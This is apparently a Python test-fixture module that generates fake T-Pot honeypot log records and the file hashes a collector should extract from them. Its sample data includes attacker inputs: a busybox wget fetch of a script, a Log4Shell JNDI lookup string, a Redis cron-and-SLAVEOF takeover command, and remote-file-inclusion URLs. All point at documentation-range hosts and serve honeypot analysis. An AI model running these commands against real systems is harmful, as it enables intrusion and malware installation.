"""Documents as T-Pot's Logstash writes them, one function per honeypot and shape, all made here.

A document about a file knows what a collector must make of it:

    maker = Maker(random.Random(1))
    document = maker.cowrie(at, shasum, "wget")
    document.tells          # [Told(hash=..., action="download", url="http://...", file_name=None)]

Addresses are from the documentation ranges. Beside the documents of the honeypots that carry files there are
those of all others, with the fields that could be mistaken for a file's hash.
SPDX-License-Identifier: MIT
"""

import dataclasses
import datetime
import hashlib

SENSORS = (("hive-one", "203.0.113.10", "10.0.0.5"), ("sensor-two", "203.0.113.20", "10.0.1.7"))
PLACES = (("VN", "Hanoi", 64500, "EXAMPLE-NET VN"), ("BR", "", 64502, "Exemplo Telecom LTDA"),
          ("NL", "Amsterdam", 64501, "Example Hosting B.V."))


def sha256(text):
    return hashlib.sha256(text.encode()).hexdigest()


def md5(text):
    return hashlib.md5(text.encode()).hexdigest()  # noqa: S324


def sha512(text):
    return hashlib.sha512(text.encode()).hexdigest()


def instant(seconds):
    """As T-Pot writes it, with milliseconds."""
    moment = datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


@dataclasses.dataclass(frozen=True)
class Told:
    """What one document says about one file."""

    hash: str
    action: str
    url: str | None = None
    file_name: str | None = None


class Document(dict):
    """A document, and what it says about files."""

    tells = ()

    def tell(self, *tells):
        self.tells = tells
        return self


COWRIE_DOWNLOAD, COWRIE_UPLOAD = "cowrie.session.file_download", "cowrie.session.file_upload"
HERE = "http://198.51.100.7"
# What Cowrie writes, beside the fields that all its file events have, and what that tells: action, URL, name.
# {0} is the beginning of the file's hash, {1} all of it.
COWRIE = {
    "wget": ({"eventid": COWRIE_DOWNLOAD, "url": HERE + "/bins/{0}.arm7"},
             ("download", HERE + "/bins/{0}.arm7", None)),
    "curl": ({"eventid": COWRIE_DOWNLOAD, "url": "https://198.51.100.7:8443/{0}?a=1"},
             ("download", "https://198.51.100.7:8443/{0}?a=1", None)),
    "tftp": ({"eventid": COWRIE_DOWNLOAD, "url": "tftp://198.51.100.7/{0}", "destfile": "{0}.mips"},
             ("download", "tftp://198.51.100.7/{0}", "{0}.mips")),
    "ftpget": ({"eventid": COWRIE_DOWNLOAD, "url": "ftp://anonymous@198.51.100.7/{0}", "destfile": "{0}"},
               ("download", "ftp://anonymous@198.51.100.7/{0}", "{0}")),
    "redirection": ({"eventid": COWRIE_DOWNLOAD, "duplicate": False, "destfile": "/tmp/.x"},
                    ("download", None, "/tmp/.x")),
    "stdin": ({"eventid": COWRIE_DOWNLOAD, "duplicate": True, "destfile": ""}, ("download", None, None)),
    "sftp": ({"eventid": COWRIE_UPLOAD, "filename": "{0}.sh"}, ("upload", None, "{0}.sh")),
    "scp": ({"eventid": COWRIE_UPLOAD, "filename": "sshd", "destfile": "/tmp/sshd", "url": "/tmp/sshd",
             "outfile": "{1}", "duplicate": False}, ("upload", None, "/tmp/sshd")),
    "sftp proxy": ({"eventid": COWRIE_UPLOAD, "filename": "p.sh", "destfile": "", "url": "p.sh",
                    "duplicate": False}, ("upload", None, "p.sh")),
}


def _fill(value, shasum):
    return value.format(shasum[:6], shasum) if isinstance(value, str) else value


class Maker:
    """Makes documents; what is left to chance comes from `random`."""

    def __init__(self, random):
        self.random = random

    def base(self, at, kind, place=True):
        """What nearly all documents have; without a place: no source address, hence no GeoIP."""
        hostname, outside, inside = self.random.choice(SENSORS)
        document = Document({
            "@timestamp": instant(at), "timestamp": instant(at), "@version": "1", "type": kind,
            "path": f"/data/{kind.lower()}/log", "host": "5d2f0c9b7a11",
            "t-pot_hostname": hostname, "t-pot_ip_ext": outside, "t-pot_ip_int": inside,
        })
        if place:
            document.update(self.source())
        return document

    def source(self):
        country, city, asn, organisation = self.random.choice(PLACES)
        address = f"198.51.100.{self.random.randrange(1, 250)}"
        return {"src_ip": address,
                "geoip": {"ip": address, "country_code2": country, "city_name": city, "asn": asn,
                          "as_org": organisation, "location": {"lat": 1.5, "lon": 2.5}}}

    def session(self):
        return f"{self.random.getrandbits(48):012x}"

    # -- honeypots that carry files

    def cowrie(self, at, shasum, shape):
        base = self.base(at, "Cowrie")
        base.update(session=self.session(), sensor="9c1e5a40b7d2", uuid="unknown",
                    protocol=self.random.choice(["ssh", "telnet"]), shasum=shasum, outfile=f"dl/{shasum}",
                    message=f"Downloaded to dl/{shasum}")
        fields, told = COWRIE[shape]
        base.update({key: _fill(value, shasum) for key, value in fields.items()})
        return base.tell(Told(shasum, *(_fill(value, shasum) for value in told)))

    def adbhoney_upload(self, at, shasum):
        base = self.base(at, "Adbhoney")
        base.update(eventid="adbhoney.session.file_upload", shasum=shasum, session=self.session(),
                    sensor="honeypot01", outfile=f"dl/{shasum}.raw", filename="/data/local/tmp/u.apk")
        return base.tell(Told(shasum, "upload", None, "/data/local/tmp/u.apk"))

    def adbhoney_download(self, at, shasum, began=10):
        """The download, which names no source, and the beginning of its session, which does."""
        session = self.session()
        opening = self.base(at - began, "Adbhoney")
        opening.update(eventid="adbhoney.session.connect", session=session, sensor="honeypot01",
                       src_port=40022, dest_ip="172.21.0.2", dest_port=5555)
        command = Document({**opening, "@timestamp": instant(at - 1), "eventid": "adbhoney.command.input",
                            "input": f"busybox wget {HERE}/w.sh -O -> w.sh"})
        for name in ("src_port", "dest_port"):
            del command[name]
        download = self.base(at, "Adbhoney", place=False)
        download.update(eventid="adbhoney.session.file_download", session=session, sensor="honeypot01",
                        shasum=shasum, src_url=f"{HERE}/w.sh", filename="w.sh", outfile=f"dl/{shasum}.raw")
        return opening, command, download.tell(Told(shasum, "download", f"{HERE}/w.sh", "w.sh"))

    def h0neytr4p(self, at, digest):
        base = self.base(at, "H0neytr4p")
        base.update(dest_port=443, protocol="https", request_method="POST", trapped="true",
                    request_uri="/wp-content/plugins/x/upload.php", hostname="203.0.113.10",
                    payload_hash_md5=digest, payload_mime_type="application/x-php",
                    payload_filename=f"/data/h0neytr4p/payloads/{digest}")
        return base.tell(Told(digest, "upload"))

    def log4pot_request(self, at, session):
        base = self.base(at, "Log4pot")
        base.update(reason="request", correlation_id=session, src_port=50505, dest_port=8080,
                    request_uri="GET /?x=${jndi:ldap://198.51.100.66:1389/a} HTTP/1.1")
        return base

    def log4pot(self, at, shasum):
        """A request, and the payload that it led to: a class by LDAP, and files its command names."""
        session = f"3b8f1d2e-1111-4222-8333-{self.session()}"
        payload = self.base(at, "Log4pot", place=False)
        more, url = sha256(shasum), f"http://198.51.100.66/{shasum[:6]}.sh"
        payload.update(reason="payload", correlation_id=session, class_type="url_reference", class_sha256=shasum,
                       javaCodeBase="http://198.51.100.66:8888/", javaFactory="Exploit", javaClassName="foo",
                       ldap_sha256=sha256("the LDAP server's answer"), DN="Basic/Command/Base64/Y3VybCA=",
                       urls={url: more, "http://www.google.com/x": "excluded",
                             "http://198.51.100.67/k": "error: (28, 'Connection timed out')"})
        payload.tell(Told(shasum, "download", "http://198.51.100.66:8888/", "Exploit"), Told(more, "download", url))
        return self.log4pot_request(at - 1, session), payload

    def log4pot_generic(self, at, shasum):
        """A payload that came otherwise, and whose request is not there."""
        payload = self.base(at, "Log4pot", place=False)
        payload.update(reason="payload", correlation_id=f"4c9f2e3f-1111-4222-8333-{self.session()}",
                       jndi_handler="generic", generic_sha256=shasum)
        return payload.tell(Told(shasum, "download"))

    def honeytrap(self, at, data="GET / HTTP/1.1", downloads=0):
        """A connection: hashes of whatever came first, and now and then a download."""
        base = self.base(int(at), "Honeytrap")
        empty = {"md5_hash": md5(""), "sha512_hash": sha512(""), "length": 0, "data_hex": ""}
        first = {"md5_hash": md5(data), "sha512_hash": sha512(data), "length": len(data),
                 "data_hex": data.encode().hex()}
        base.update(is_virtual=False, start_time=instant(int(at)), end_time=instant(int(at)), operation_mode=2,
                    attack_connection={"protocol": "tcp", "payload": first},
                    proxy_connection={"protocol": "tcp", "remote_ip": "0.0.0.0", "payload": empty},
                    download_count=downloads, download_tries=downloads, downloads={}, src_port=51111,
                    dest_port=8088, dest_ip=base["t-pot_ip_int"])
        return base

    def honeytrap_download(self, at, digest, count=1):
        base = self.honeytrap(at, "echo tftp get n.exe", count)
        for n in range(count):
            base["downloads"].update({
                f"type_{n}": "FTP", f"uri_{n}": f"ftp://198.51.100.66/n{n}.exe", f"filename_{n}": f"n{n}.exe",
                f"remote_ip_{n}": "198.51.100.66",
                f"payload_{n}": {"md5_hash": digest if n == 0 else md5(f"{digest}{n}"),
                                 "sha512_hash": sha512(digest), "length": 60416, "data_hex": "4d5a9000"},
            })
        return base.tell(Told(digest, "download", "ftp://198.51.100.66/n0.exe", "n0.exe"))

    # -- all the others

    def background(self, at, number):
        """A document that tells of no file, of one of T-Pot's other kinds in turn."""
        kind, fields = BACKGROUND[number % len(BACKGROUND)]
        if kind == "Honeytrap":
            return self.honeytrap(at, f"GET /{number} HTTP/1.1" if number % 2 else "")
        document = self.base(at, kind)
        document.update(fields(number) if callable(fields) else fields)
        return document



# Some hold what looks like the hash of a file and is none, or one that no default profile takes.
BACKGROUND = (
    ("Cowrie", lambda n: {"eventid": "cowrie.command.input", "input": "uname -a", "session": f"n{n}"}),
    ("Cowrie", lambda n: {"eventid": "cowrie.log.closed", "shasum": sha256(f"keystrokes {n}"), "size": 12,
                          "ttylog": "log/tty/x", "duplicate": False, "session": f"n{n}"}),
    ("Cowrie", lambda n: {"eventid": "cowrie.session.file_download.failed", "url": HERE + "/gone",
                          "session": f"n{n}"}),
    ("ssh-rsa", lambda n: {"eventid": "cowrie.client.fingerprint", "fingerprint": "aa:bb", "key": "ssh-rsa AAAA",
                           "session": f"n{n}"}),
    ("Suricata", lambda n: {"event_type": "fileinfo", "fileinfo": {"md5": md5(str(n)), "state": "CLOSED", "size": n,
                            "filename": "/bins/x", "magic": "ELF 32-bit LSB executable"}, "flow_id": 2**53 + n}),
    ("Suricata", {"event_type": "alert", "alert": {"signature": "ET SCAN", "severity": 2}}),
    ("Dionaea", {"connection": {"type": "accept", "protocol": "smbd", "transport": "tcp"}}),
    ("Honeytrap", None),
    ("Adbhoney", lambda n: {"eventid": "adbhoney.command.input", "input": "pm path x", "session": f"n{n}"}),
    ("H0neytr4p", {"request_method": "GET", "request_uri": "/login", "trapped": "true", "dest_port": 443,
                   "payload": "user=a&pass=b"}),
    ("Log4pot", lambda n: {"reason": "request", "correlation_id": f"none-{n}", "dest_port": 8080}),
    ("Glutton", lambda n: {"msg": "Packet got handled by TCP handler", "payload_hash": sha256(f"bytes {n}")}),
    ("Glutton", {"msg": "Packet got handled by TCP handler", "payload_hash": ""}),
    ("Galah", {"request.bodySha256": sha256(""), "request.requestURI": "/", "request.method": "GET",
               "request.headers.sortedSha256": sha256("Host,User-Agent")}),
    ("Beelzebub", {"command": "ls", "service": "SSH"}),
    ("Redishoneypot", {"action": "CONFIG SET dir /var/spool/cron; SLAVEOF 198.51.100.66 21000"}),
    ("ElasticPot", {"eventid": "elasticpot.recon", "http.url": "/_search", "payload": ""}),
    ("CitrixHoneypot", {"fileinfo.filename": "x.php", "fileinfo.state": "CLOSED", "http.http_method": "GET"}),
    ("Ciscoasa", {"payload_printable": "POST /+webvpn+/index.html"}),
    ("Mailoney", {"data": "EHLO example", "session": "smtp"}),
    ("ConPot", {"event_type": "NEW_CONNECTION", "id": "c1", "data_type": "modbus"}),
    ("Dicompot", {"input": "C-STORE", "files": 3}),
    ("Ddospot", {"dest_port": 19}),
    ("Wordpot", {"url": "/?src=http://198.51.100.66/x.txt", "plugin": "timthumb"}),
    ("Miniprint", {"file_name": "2026-11-20_03-00-00-000001.txt"}),
    ("Tanner", {"path": "/?file=http://198.51.100.66/r.txt", "uuid": md5("tanner"), "status": 200}),
    ("Heralding", {"protocol": "vnc", "password": "admin"}),
    ("Honeypots", {"action": "login", "protocol": "ftp"}),
    ("Sentrypeer", {"sip_method": "REGISTER"}),
    ("Medpot", {"dest_port": 2575}),
    ("Honeyaml", {"method": "GET", "path": "/api"}),
    ("Hellpot", {"message": "NEW"}),
    ("Endlessh", {"reason": "ACCEPT"}),
    ("Go-pot", {"path": "/.env"}),
    ("Ipphoney", {"eventid": "ipphoney.login", "http.url": "/"}),
    ("RDPHoneypot", {"eventid": "rdp.login", "username": "a"}),
    ("Fatt", {"protocol": "ssh", "ssh.hassh": md5("hassh")}),
    ("P0f", {"mod": "syn", "os": "Linux 3.11"}),
    ("NGINX", {"request_uri": "/es/logstash-*/_stats/docs", "remote_user": "reader", "status": 200,
               "http_user_agent": "potpress-collector"}),
)
